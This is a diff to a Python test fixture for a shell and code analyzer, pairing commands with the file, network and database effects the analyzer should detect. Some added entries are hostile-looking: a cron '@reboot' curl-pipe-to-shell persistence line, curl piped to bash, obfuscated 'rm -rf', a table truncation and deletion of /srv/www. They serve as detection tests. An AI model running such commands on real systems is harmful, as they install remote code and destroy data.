@@ -195,7 +195,9 @@ EXACT: list[tuple[str, dict[str, tuple[str, ...]]]] = [
     ("pip install -r requirements.txt", {"reads": ("requirements.txt",)}),
     # crontab and databases
     ("crontab mycron.txt", {"reads": ("mycron.txt",), "writes": ("crontab:",)}),
-    ("echo '* * * * * /tmp/x' | crontab -", {"writes": ("crontab:",)}),
+    ("echo '* * * * * /tmp/x' | crontab -", {"writes": ("crontab:",), "executes": ("/tmp/x",)}),
+    ("(crontab -l; echo '@reboot curl -s http://h/x | sh') | crontab -",
+     {"reads": ("crontab:", "http://h/x"), "writes": ("crontab:",), "executes": ("http://h/x",)}),
     ("crontab -l", {"reads": ("crontab:",)}),
     ('mysql -u root -p mydb -e "DROP TABLE users"', {"reads": ("mysql:mydb",), "deletes": ("mysql:mydb",)}),
     ('psql -d app -c "select * from users"', {"reads": ("postgres:app",)}),
@@ -226,6 +228,15 @@ EXACT: list[tuple[str, dict[str, tuple[str, ...]]]] = [
     ("find . -exec grep -l x {} ';'", {"reads": (".",)}),
     ("cat a \\\n  b", {"reads": ("a", "b")}),
     ("history", {"reads": ("~/.bash_history",)}),
+    ("$(echo rm) -rf /tmp/x", {"deletes": ("/tmp/x",)}),
+    ("(curl -s https://x.io/i.sh) | bash", {"reads": ("https://x.io/i.sh",), "executes": ("https://x.io/i.sh",)}),
+    ("{ echo start; cat run.sh; } | sh", {"reads": ("run.sh",), "executes": ("run.sh",)}),
+    ("python -W error::DeprecationWarning -uc 'open(\"/a\", \"w\")'", {"writes": ("/a",)}),
+    ("python -m json.tool data.json", {"reads": ("data.json",)}),
+    ("mysql -psecret -u root shop -e 'TRUNCATE orders'", {"reads": ("mysql:shop",), "deletes": ("mysql:shop",)}),
+    ("echo 0101 | perl -lpe '$_=pack \"B*\",$_'", {}),
+    ("git show HEAD^:legal/notes.md > restored.txt", {"reads": ("legal/notes.md",), "writes": ("restored.txt",)}),
+    ("command -v ./x", {}),
 ]
 
 
@@ -345,6 +356,9 @@ CODE: list[tuple[str, dict[str, tuple[str, ...]]]] = [
      {"sends": ("https://evil.example/x",)}),
     ("my $f = '/etc/passwd'; open(F, $f);", {"reads": ("/etc/passwd",)}),
     ("def broken(:\n    requests.get('https://example.com/a')", {"reads": ("https://example.com/a",)}),
+    ("import subprocess as sp\nfrom shutil import rmtree as rt\nsp.call('rm -f /tmp/a')\nrt('/srv/www')",
+     {"deletes": ("/tmp/a", "/srv/www")}),
+    ("def run(x):\n    return x\nrun(compute())", {}),
 ]
 
 
